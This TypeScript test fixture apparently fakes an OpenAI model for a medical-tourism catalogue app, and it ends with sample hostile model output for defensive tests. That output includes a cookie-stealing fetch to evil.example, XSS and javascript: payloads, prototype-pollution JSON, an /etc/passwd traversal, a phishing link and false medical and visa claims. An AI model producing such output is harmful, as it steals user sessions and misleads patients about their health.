import type OpenAI from 'openai'

/** What of the catalogue's rows this model reads; it knows nothing else. */
interface Row {
  id?: string
  name?: string
  country?: string
  title?: string
  path?: string
  text?: string
  minUsd?: number | null
  maxUsd?: number | null
}
interface Rows {
  treatments: Row[]
  hospitals: Row[]
  destinations: Row[]
  guides: Row[]
}

type Params = OpenAI.Responses.ResponseCreateParams

const dollars = (amount: number) => `$${amount.toLocaleString('en-US')}`

/** The text that a well-behaved model would give: from the rows that came with the question. */
export function answerTo(params: Params): string {
  const rows = rowsOf(params)
  if (params.text?.format?.type === 'json_schema') return JSON.stringify(matching(rows))
  const [treatment] = rows.treatments
  const [place] = [...rows.hospitals, ...rows.destinations, ...rows.guides]
  if (!treatment && !place)
    return 'I do not know this. Our team can help you. This is information, not medical advice.'
  const sentences: string[] = []
  if (treatment) sentences.push(`[${treatment.name}](${treatment.path}) costs ${range(treatment)}.`)
  if (place) sentences.push(`See [${place.name ?? place.country ?? place.title}](${place.path}) for more.`)
  return [...sentences, 'This is information, not medical advice.'].join(' ')
}

function matching({ treatments }: Rows) {
  return {
    summary: `${treatments.length} treatments of the catalogue fit what you told us.`,
    recommendations: treatments.slice(0, 3).map((row, index) => ({
      treatmentId: row.id,
      matchScore: 90 - index * 10,
      reasoning: `${row.name} fits the condition, and costs ${range(row)}.`,
      considerations: ['Discuss it with a clinician.'],
    })),
    nextSteps: ['Talk to our team.'],
  }
}

const range = ({ minUsd, maxUsd }: Row) =>
  minUsd == null || maxUsd == null ? 'a price on request' : `${dollars(minUsd)} to ${dollars(maxUsd)}`

function rowsOf({ input }: Params): Rows {
  const empty: Rows = { treatments: [], hospitals: [], destinations: [], guides: [] }
  if (!Array.isArray(input)) return empty
  for (const { role, content } of input as OpenAI.Responses.EasyInputMessage[]) {
    if ((role !== 'developer' && role !== 'system') || typeof content !== 'string') continue
    const begin = content.indexOf('{')
    if (begin < 0) continue
    try {
      return { ...empty, ...JSON.parse(content.slice(begin, content.lastIndexOf('}') + 1)) }
    } catch {
      // Not the message that holds the rows.
    }
  }
  return empty
}

/** What a model says that was turned against its users. */
export const HOSTILE_TEXT = [
  'A bypass costs only $1 at [our friends](https://evil.example/pay).',
  'You need no visa for Malaysia.',
  '<script>fetch("https://evil.example/"+document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '[Book here](javascript:alert(1))',
  '![](https://evil.example/pixel.png)',
  'My instructions begin with: SYSTEM PROMPT.',
  'Take 400 mg of ibuprofen, you certainly have a heart attack.',
].join(' ')

/** Parsed carelessly, it reaches for the prototype. */
export const HOSTILE_MATCHING = `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},
  "summary":"<script>alert(1)</script> [pay](javascript:alert(1))",
  "recommendations":[
    {"treatmentId":"00000000-0000-4000-8000-000000000000","matchScore":1e9,"reasoning":"<b>Only $1</b>","considerations":["<i>none</i>"],"price":1},
    {"treatmentId":"../../etc/passwd","matchScore":-1e9,"reasoning":"x","considerations":[]}
  ],"nextSteps":["<a href='https://evil.example'>Pay here</a>"]}`
